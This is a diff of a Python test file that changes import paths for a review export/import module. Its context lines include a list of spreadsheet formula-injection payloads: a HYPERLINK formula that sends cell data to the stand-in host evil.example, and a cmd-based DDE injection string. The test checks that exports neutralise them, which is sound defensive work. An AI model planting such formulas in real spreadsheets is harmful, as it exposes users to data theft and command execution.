@@ -10,7 +10,7 @@ import pytest
 
 from distill.cli import main
 from distill.errors import InputError
-from distill.review import REVIEWED, export, import_decisions
+from distill.evaluation.review import REVIEWED, export, import_decisions
 
 
 @pytest.fixture
@@ -69,7 +69,7 @@ FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"click me")', "+1+cmd|' /C 
 
 
 def test_export_neutralises_formulas_and_import_restores_the_exact_text(run_dir: Path, tmp_path: Path) -> None:
-    from distill.review import FORMULA_START
+    from distill.evaluation.review import FORMULA_START
 
     rows = [{"id": f"s{i}", "prompt": [{"role": "user", "content": text}],
              "completion": [{"role": "assistant", "content": text}], "meta": {"answer_id": f"a{i}"}}
